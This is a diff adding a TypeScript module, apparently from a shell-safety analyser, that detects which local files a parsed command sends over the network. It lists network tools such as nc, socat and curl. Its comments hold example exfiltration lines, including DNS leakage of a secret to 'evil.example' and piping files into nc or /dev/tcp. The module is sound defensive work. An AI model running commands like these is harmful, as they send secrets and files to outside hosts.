@@ -1,0 +1,126 @@
+// What leaves the machine through a command, read off its parsed words: the files a network
+// program sends (curl -F x=@f, scp f host:, nc host 9 < f) and the files whose bytes reach one
+// through a pipe or a substitution (cat f | nc host 9, curl -d "$(cat f)"). Pure functions.
+import type { ShellCommand, ShellWord } from '../runtime/shell/types.ts';
+import { operands, optionValues } from './command-effects.ts';
+
+/** Programs that send their arguments, stdin or named files to another machine. */
+export const NETWORK_PROGRAMS: ReadonlySet<string> = new Set([
+  'curl',
+  'wget',
+  'http',
+  'https',
+  'xh',
+  'aria2c',
+  'nc',
+  'ncat',
+  'netcat',
+  'socat',
+  'telnet',
+  'ssh',
+  'scp',
+  'sftp',
+  'rsync',
+  'ftp',
+  'lftp',
+  'tftp',
+  'openssl',
+  'websocat',
+  'mail',
+  'mailx',
+  'sendmail',
+  'mutt',
+  'git',
+  // A lookup carries its name to the resolver: dig $(cat secret).evil.example.
+  'dig',
+  'nslookup',
+  'host',
+  'ping',
+]);
+
+/** `host:path`, `user@host:path`, `rsync://...`: the remote side of scp, rsync or sftp. */
+export function isRemoteSpec(text: string): boolean {
+  if (/^(?:rsync|scp|sftp|ssh):\/\//.test(text)) return true;
+  const colon = text.indexOf(':');
+  const slash = text.indexOf('/');
+  return colon > 0 && (slash < 0 || colon < slash);
+}
+
+/** One word naming local data a command sends: whole (a file) or after an `@`/`<` (curl's forms). */
+export interface UploadWord {
+  readonly word: ShellWord;
+  readonly atFile: boolean;
+}
+
+function plain(words: readonly ShellWord[]): UploadWord[] {
+  return words.map((word) => ({ word, atFile: false }));
+}
+
+/** Words naming local files a command sends: curl -d @f, -F x=@f, -T f, wget --post-file=f, scp f host:. */
+export function uploadWords(command: ShellCommand): UploadWord[] {
+  const args = command.args;
+  switch (command.binary) {
+    case 'curl':
+      return [
+        ...optionValues(
+          args,
+          ['-d', '-F'],
+          ['--data', '--data-binary', '--data-ascii', '--data-urlencode', '--json', '--form'],
+        ).map((word) => ({ word, atFile: true })),
+        ...plain(optionValues(args, ['-T'], ['--upload-file'])),
+      ];
+    case 'wget':
+      return plain(optionValues(args, [], ['--post-file', '--body-file']));
+    case 'scp':
+    case 'rsync':
+    case 'sftp': {
+      // Every local operand before a remote destination is sent there.
+      const ops = operands(args);
+      const last = ops[ops.length - 1];
+      if (last === undefined || !isRemoteSpec(last.text)) return [];
+      return plain(ops.slice(0, -1).filter((w) => !isRemoteSpec(w.text)));
+    }
+    default:
+      return [];
+  }
+}
+
+/** The file named inside a curl data value: `@file`, `name@file`, `name=<file` (`;type=` cut). */
+export function dataFileOf(value: string): string | null {
+  const at = /^[^@<]*[@<]/.exec(value);
+  if (at === null) return null;
+  return value.slice(at[0].length).split(';')[0] as string;
+}
+
+/** Files a command reads through `<`. */
+function stdinFiles(command: ShellCommand): ShellWord[] {
+  return command.redirects.flatMap((r) => (r.op === '<' && r.target !== null ? [r.target] : []));
+}
+
+/**
+ * Words naming files whose bytes a network program sends: what it reads through `<`, and the
+ * files read by the commands that feed it, earlier stages of its pipeline and the substitutions
+ * in its words (`nc h 9 < f`, `cat f | nc h 9`, `curl -d "$(cat f)"`). Its own operands are
+ * not among them: `ssh host ls /var/log` names a remote path.
+ */
+export function networkFedWords(
+  command: ShellCommand,
+  commands: readonly ShellCommand[],
+): ShellWord[] {
+  // `cat f > /dev/tcp/host/port`: bash itself sends what the command prints.
+  const viaDevice = command.redirects.some(
+    (r) => r.writes && r.target !== null && /^\/dev\/(?:tcp|udp)\//.test(r.target.text),
+  );
+  if (!viaDevice && (command.binary === null || !NETWORK_PROGRAMS.has(command.binary))) return [];
+  const index = commands.indexOf(command);
+  const feeders = commands.filter(
+    (o) =>
+      (o.pipeline.id === command.pipeline.id && o.pipeline.stage < command.pipeline.stage) ||
+      (o.parent === index && (o.origin === 'substitution' || o.origin === 'process-substitution')),
+  );
+  return [
+    ...(viaDevice ? operands(command.args) : []),
+    ...stdinFiles(command),
+    ...feeders.flatMap((o) => [...operands(o.args), ...stdinFiles(o)]),
+  ];
+}
